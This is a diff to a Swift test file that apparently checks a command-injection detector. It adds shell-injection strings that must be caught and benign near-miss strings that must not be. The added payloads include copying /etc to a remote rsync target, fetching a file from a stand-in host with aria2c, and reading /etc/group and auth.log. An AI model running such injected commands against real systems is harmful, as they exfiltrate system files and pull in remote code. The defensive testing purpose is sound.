@@ -61,6 +61,10 @@ import Testing
         ";cat /etc/group|base64", ";id>&2", "x;ls -la /home", "x;find / -name '*.conf'", ";touch /tmp/pwn",
         ";chmod +x /tmp/s;/tmp/s", ";./s.sh", "x; head -n 3 /etc/group", ";crontab -l", "|| sleep 3 &",
         "%250aid", "x%253Bid", "%26%26whoami",
+        // sixth batch: tools beyond the usual names, and commands nobody lists
+        "x;rsync -a /etc/ 10.0.0.5::loot", "x;jq -r . /etc/group", "x|git -c core.pager=id log", "x;ionice -c3 id",
+        "x;vigr", "$(aria2c -o /tmp/x http://e.example/x)", "x;{rsync,-a,/etc/,e.example:x}", "x;exiftool /etc/group",
+        "x;frobnicate -rf /etc/group", "x|zork /etc/group", "x&&blorp --dump /var/log/auth.log",
         // fifth batch: cmd.exe substrings, PowerShell forms, variable assembly
         "x;cat${IFS}${HOME:0:1}etc${HOME:0:1}group", "x;a=c;b=at;$a$b /etc/group", "x;$(tr '!-~' 'P-~!-O' <<< 9:5)",
         "x;`tr a-z n-za-m <<< vq`", "x & set x=whoami&& call %x%", "x & %COMSPEC:~-7,1%", "x & echo %PROGRAMFILES:~10,5%",
@@ -122,6 +126,8 @@ import Testing
         "He said: \"I'm done; bye\"", "a;b;c", "1;2;3", "x|y|z", "key=value;other=thing", "N/A", "TBD; see notes",
         "R&D | Sales & Marketing", "Hello; how are you?", "date & time", "head & shoulders", "dir: left",
         "50%: ~half", "ratio 3:~4", "env: production", "$env is set", "call me; sleep tight", "IEX (Investors Exchange) listing",
+        "{view,edit,delete}", "{install,remove}", "view; install", "Quick links; view all", "Plan: red | green",
+        "Note; see -- /etc is a folder", "mode; -v for verbose",
     ]
 
     @Test(arguments: nearMisses)
